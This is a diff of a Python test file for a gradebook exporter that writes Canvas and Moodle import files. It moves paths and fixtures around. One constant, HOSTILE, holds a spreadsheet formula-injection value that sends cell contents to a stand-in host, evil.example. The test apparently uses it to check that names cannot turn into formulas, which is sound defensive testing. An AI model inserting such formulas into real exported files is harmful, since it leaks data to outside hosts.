@@ -1,7 +1,7 @@
 """The class gradebook: one row per student, the duplicate rule, staff overrides that survive
 regrades, Canvas and Moodle import files, and no way for a name to become a formula.
 
-`python tests/test_gradebook.py` rewrites the golden export files after a deliberate change."""
+`PYTHONPATH=tests python tests/batch/test_gradebook.py` rewrites the golden export files after a deliberate change."""
 import calendar
 import csv
 import html
@@ -11,7 +11,6 @@ import os
 import re
 import shutil
 import subprocess
-import sys
 import time
 import zipfile
 from pathlib import Path
@@ -27,7 +26,7 @@ from grader.batch.staff_overrides import check, parse
 from grader.course.spec import load_assignment
 from grader.result import CheckResult
 
-GOLDEN = Path(__file__).resolve().parent / "fixtures" / "gradebook"
+GOLDEN = FIXTURES / "gradebook"
 FAST = ["--cell-timeout", "4", "--call-timeout", "2", "--seed", "7"]
 HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'
 SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the docs' sample, used by the class below
@@ -385,7 +384,6 @@ def test_nothing_gradable_is_exit_2_in_one_line(tmp_path, inputs):
 
 if __name__ == "__main__":
     import tempfile
-    sys.path.insert(0, str(Path(__file__).resolve().parent))
     with tempfile.TemporaryDirectory() as folder:
         canvas, moodle = exports_class(Path(folder))
         overrides = Path(folder) / "overrides.csv"
